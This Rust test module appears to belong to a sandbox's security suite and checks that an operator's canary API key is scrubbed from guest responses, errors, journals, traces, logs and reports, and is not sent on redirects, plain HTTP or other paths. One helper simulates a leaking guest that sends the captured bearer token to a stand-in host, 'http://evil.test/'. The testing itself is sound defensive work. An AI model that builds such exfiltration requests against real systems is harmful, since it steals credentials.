//! Attacks 24 to 26, on the operator's secrets: they reach the server that a rule names, and nothing else.

use std::collections::BTreeMap;
use std::io;
use std::sync::{Arc, Mutex, PoisonError};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use lockstep_core::grant::http::{Network, PathPattern, Rule, Scheme, SecretUse};
use lockstep_hostile::fetch::{self, body, get};
use lockstep_runtime::archive;
use lockstep_sandbox::Wall;

use super::network::{Lab, path, rule, url, word};
use super::server::{Answer, Server};
use super::stage::{Played, Stage};
use super::{Case, Trial, case};
use crate::report::{Tale, row::Rows, standing};

/// A secret that no answer, journal or log has any reason to hold.
const CANARY: &str = "sk/live+4eC39HqLyjWD";
pub(super) const SCRUBBED: &str = "[secret]";

pub(super) fn cases() -> Vec<Case> {
    let mut all = echoes();
    all.extend(canaries());
    all.extend(elsewhere());
    all
}

fn echoes() -> Vec<Case> {
    vec![
        case("24a", "an answer with the secret", SCRUBBED, Wall::Scrub, |trial| {
            Box::pin(echoed(trial, CANARY.to_owned()))
        }),
        case("24b", "an answer with the secret in base64", SCRUBBED, Wall::Scrub, |trial| {
            Box::pin(echoed(trial, STANDARD.encode(format!("user:{CANARY}"))))
        }),
        case("24c", "an answer with the secret in percent signs", SCRUBBED, Wall::Scrub, |trial| {
            Box::pin(echoed(trial, url::form_urlencoded::byte_serialize(CANARY.as_bytes()).collect()))
        }),
        case("24d", "an answer with the secret in hex", SCRUBBED, Wall::Scrub, |trial| {
            Box::pin(echoed(trial, CANARY.bytes().map(|byte| format!("{byte:02x}")).collect()))
        }),
    ]
}

fn canaries() -> Vec<Case> {
    const NONE: &str = "0 hits";
    vec![
        case("25a", "a canary in what a guest is answered", NONE, Wall::Scrub, |trial| {
            Box::pin(in_guest(trial))
        }),
        case("25b", "a canary in errors", NONE, Wall::Scrub, |trial| Box::pin(in_errors(trial))),
        case("25c", "a canary in the journal", NONE, Wall::Scrub, |trial| Box::pin(in_journal(trial))),
        case("25d", "a canary in traces", NONE, Wall::Scrub, |trial| Box::pin(in_traces(trial))),
        case("25e", "a canary in logs", NONE, Wall::Scrub, |trial| Box::pin(in_logs(trial))),
        case("25f", "a canary in what people are shown", NONE, Wall::Scrub, |trial| {
            Box::pin(in_reports(trial))
        }),
    ]
}

fn elsewhere() -> Vec<Case> {
    vec![
        case(
            "26a",
            "a redirect away from the secret's rule",
            "the secret stayed",
            Wall::Redirects,
            |trial| Box::pin(redirected(trial)),
        ),
        case(
            "26b",
            "the secret's address without TLS",
            "denied (scheme), the secret stayed",
            Wall::Rules,
            |trial| Box::pin(downgraded(trial)),
        ),
        case(
            "26c",
            "another path of the secret's host",
            "denied (path), the secret stayed",
            Wall::Rules,
            |trial| Box::pin(strayed(trial)),
        ),
    ]
}

/// How a rule uses the canary.
pub(super) fn bearer() -> SecretUse {
    SecretUse { name: "key".into(), header: "authorization".into(), format: "Bearer {}".into() }
}

/// The operator's secrets.
pub(super) fn canary() -> BTreeMap<String, Vec<u8>> {
    [("key".to_owned(), CANARY.as_bytes().to_vec())].into()
}

fn with_secret(port: u16) -> Rule {
    Rule { secret: Some(bearer()), ..rule(port, Network::Loopback(port)) }
}

fn lab(rules: Vec<Rule>) -> anyhow::Result<Lab> {
    Ok(Lab { secrets: canary(), ..Lab::new(rules)? })
}

/// What a guest sees of an answer that spells the secret so.
async fn echoed(trial: Trial, spelled: String) -> anyhow::Result<String> {
    let says = spelled.clone();
    let server = Server::new(move |_| Answer::whole(200, "", says.as_bytes())).await?;
    let answer = lab(vec![with_secret(server.port)])?.ask(trial, &get(&url(server.port, "/"))).await?;
    let seen = body(&answer);
    let is_scrubbed = seen.contains(SCRUBBED) && !seen.contains(&spelled);
    Ok(if is_scrubbed { SCRUBBED.to_owned() } else { "the secret".to_owned() })
}

fn hits(text: &[u8]) -> String {
    let found = text.windows(CANARY.len()).filter(|window| *window == CANARY.as_bytes()).count();
    format!("{found} hits")
}

async fn in_guest(trial: Trial) -> anyhow::Result<String> {
    let server = Server::echo().await?;
    let answer = lab(vec![with_secret(server.port)])?.ask(trial, &get(&url(server.port, "/"))).await?;
    Ok(hits(format!("{}{answer}", body(&answer)).as_bytes()))
}

/// A guest that gives away what it is answered, an address with the secret in it: it asks for it, logs it
/// and fails with it.
async fn leaked(trial: Trial) -> anyhow::Result<Played> {
    let server = Server::new(|request| {
        let sent = request.split_once("Bearer ").and_then(|(_, rest)| rest.lines().next());
        Answer::whole(200, "", format!("http://evil.test/{}", sent.unwrap_or_default()).as_bytes())
    })
    .await?;
    let stage: Stage = lab(vec![with_secret(server.port)])?.stage(trial, fetch::leak())?;
    stage.play(get(&url(server.port, "/")).to_string()).await
}

async fn in_errors(trial: Trial) -> anyhow::Result<String> {
    let played = leaked(trial).await?;
    let seen = played.notes.seen();
    let outcomes = seen.ended.iter().map(|ended| format!("{:?}", ended.outcome));
    let rests = played.rests.iter().map(|rest| format!("{rest:?}"));
    Ok(hits(outcomes.chain(rests).collect::<String>().as_bytes()))
}

async fn in_journal(trial: Trial) -> anyhow::Result<String> {
    Ok(hits(&leaked(trial).await?.journaled().await?))
}

async fn in_logs(trial: Trial) -> anyhow::Result<String> {
    let played = leaked(trial).await?;
    let seen = played.notes.seen();
    Ok(hits(seen.ended.iter().map(|ended| ended.log.as_str()).collect::<String>().as_bytes()))
}

/// What commands print of a run: its rows, its story, how it stands.
async fn in_reports(trial: Trial) -> anyhow::Result<String> {
    Ok(hits(shown(&leaked(trial).await?).await?.as_bytes()))
}

/// What commands print of all runs.
pub(super) async fn shown(played: &Played) -> anyhow::Result<String> {
    let mut text = String::new();
    for id in &played.runs {
        let Some(run) = archive::read(&*played.journal, id).await? else { continue };
        let records = archive::records(&*played.journal, id).await?;
        let mut rows = Rows::new(played.workflow.clone());
        let lines = records.iter().map(|record| rows.told(record));
        let lines = lines.chain(Tale::new(&run).lines(&records)).chain([standing(&run)]);
        lines.for_each(|line| text.extend([line.as_str(), "\n"]));
    }
    Ok(text)
}

/// What is traced while a guest leaks: in a runtime of one thread, so that nothing else is.
async fn in_traces(trial: Trial) -> anyhow::Result<String> {
    let traced = Traced::default();
    let log = traced.clone();
    tokio::task::spawn_blocking(move || {
        let writer = move || log.clone();
        let log = tracing_subscriber::fmt().with_writer(writer).with_max_level(tracing::Level::TRACE);
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let log = log.with_ansi(false).finish();
        tracing::subscriber::with_default(log, || runtime.block_on(leaked(trial)).map(drop))
    })
    .await??;
    let bytes = traced.0.lock().unwrap_or_else(PoisonError::into_inner);
    anyhow::ensure!(!bytes.is_empty(), "nothing was traced");
    Ok(hits(&bytes))
}

/// Where a trace is written.
#[derive(Clone, Default)]
struct Traced(Arc<Mutex<Vec<u8>>>);

impl io::Write for Traced {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn stayed(server: &Server, after: usize) -> &'static str {
    let went = server.heard().iter().skip(after).any(|heard| heard.contains(CANARY));
    if went { "the secret went along" } else { "the secret stayed" }
}

/// A rule that follows redirects, away from the only path that it has the secret for.
async fn redirected(trial: Trial) -> anyhow::Result<String> {
    let server = Server::new(|request| match request.contains(" /away ") {
        true => Answer::whole(302, "location: /inner\r\n", b""),
        false => Answer::whole(200, "", b""),
    })
    .await?;
    let away = Rule { paths: path("away"), redirects: true, ..with_secret(server.port) };
    let lab = lab(vec![away])?;
    lab.ask(trial, &get(&url(server.port, "/away"))).await?;
    Ok(stayed(&server, 1).to_owned())
}

async fn downgraded(trial: Trial) -> anyhow::Result<String> {
    let server = Server::echo().await?;
    let lab = lab(vec![Rule { scheme: Scheme::Https, ..with_secret(server.port) }])?;
    let answer = lab.ask(trial, &get(&url(server.port, "/"))).await?;
    Ok(format!("{}, {}", word(&answer), stayed(&server, 0)))
}

async fn strayed(trial: Trial) -> anyhow::Result<String> {
    let server = Server::echo().await?;
    let narrow: Vec<PathPattern> = path("v1");
    let lab = lab(vec![Rule { paths: narrow, ..with_secret(server.port) }])?;
    let answer = lab.ask(trial, &get(&url(server.port, "/v2"))).await?;
    Ok(format!("{}, {}", word(&answer), stayed(&server, 0)))
}
